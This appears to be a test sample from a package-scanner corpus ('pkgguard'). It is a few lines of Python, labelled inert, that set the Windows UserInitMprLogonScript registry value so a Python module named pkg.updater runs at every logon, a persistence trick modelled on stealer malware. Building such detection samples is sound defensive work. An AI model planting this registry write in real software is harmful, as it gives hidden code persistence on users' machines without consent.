# pkgguard corpus 608 (persistence), modelled on [stealer-profile]; inert, never run.
import sys
import winreg

with winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Environment", 0, winreg.KEY_SET_VALUE) as key:
    winreg.SetValueEx(
        key, "UserInitMprLogonScript", 0, winreg.REG_SZ, f'"{sys.executable}" -m pkg.updater'
    )
